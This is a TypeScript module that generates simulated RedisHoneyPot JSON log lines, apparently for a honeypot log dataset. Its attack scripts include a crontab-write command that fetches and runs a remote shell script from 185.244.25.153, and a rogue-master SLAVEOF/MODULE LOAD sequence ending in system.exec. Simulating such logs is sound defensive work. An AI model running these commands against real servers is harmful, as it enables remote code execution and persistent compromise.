/**
 * RedisHoneyPot (6379) `redishoneypot/log/redishoneypot.log`: logrus JSON (Go: keys sorted,
 * `<>&` escaped), `time` `YYYY-MM-DD HH:MM:SS` container local (= UTC), `addr` "ip:port",
 * `action` NewConnect / Closed / the command line the attacker sent. Commands follow the 2019
 * cron-write and master-slave module tricks.
 */
import type { Source } from "./addresses.ts";
import { US_PER_SECOND, spaceSeconds } from "./clock.ts";
import type { Emit, FormatModule, GeneratorContext } from "./format.ts";
import { stream } from "./format.ts";
import { PotGenerator } from "./pot.ts";
import { goString } from "./pyjson.ts";

const SCRIPTS: ReadonlyArray<readonly string[]> = [
  ["INFO"],
  ["INFO", "CONFIG GET dir"],
  ["FLUSHALL", "SET backup1 \n\n*/2 * * * * root cd1 -fsSL http://185.244.25.153/cr.sh | sh\n\n", "CONFIG SET dir /etc/", "CONFIG SET dbfilename crontab", "SAVE"],
  ["SLAVEOF 185.244.25.153 6379", "CONFIG SET dbfilename exp.so", "MODULE LOAD ./exp.so", "SLAVEOF NO ONE", "system.exec \"id\""],
  ["PING"],
];
const seconds = (us: number): number => Math.floor(us / US_PER_SECOND) * US_PER_SECOND;

export const redishoneypotFormat: FormatModule = {
  name: "redishoneypot",
  dir: "redishoneypot/log",
  streams: [stream("redishoneypot.log")],
  countsAsAttack: true,
  fields: { action: "redis-command" },
  create: (ctx) => new RedisGenerator(ctx),
};

class RedisGenerator extends PotGenerator {
  constructor(ctx: GeneratorContext) {
    super(ctx, "redishoneypot", { visitsPerWeek: 24 });
  }

  onStart(atUs: number, _fresh: boolean, emit: Emit): void {
    emit({ writeUs: atUs, line: `{"level":"info","msg":"Redis honeypot listening on :6379","time":"${spaceSeconds(atUs)}"}`, fact: null });
  }

  protected visit(t0: number, source: Source): void {
    const rng = this.rng;
    const addr = `${source.ip}:${this.ports.take(source.ip)}`;
    let t = t0;
    const line = (action: string): string => `{"action":${goString(action)},"addr":"${addr}","level":"info","msg":"","time":"${spaceSeconds(t)}"}`;
    this.out(t, line("NewConnect"), this.fact(seconds(t), source, "NewConnect", { port: 6379 }));
    const script = this.sweeping ? ["INFO"] : rng.pick(SCRIPTS);
    for (const command of script) {
      t += rng.int(100_000, 2 * US_PER_SECOND);
      const action = this.pick("redis-command", command, t);
      this.out(t, line(action), this.fact(seconds(t), source, "command"), [["action", action]]);
    }
    t += rng.int(100_000, 5 * US_PER_SECOND);
    this.out(t, line("Closed"), this.fact(seconds(t), source, "Closed"));
    this.observe({ tsUs: t0, endUs: t, src: source, srcPort: Number(addr.split(":")[1]), destPort: 6379, transport: "TCP", app: "other" });
  }
}
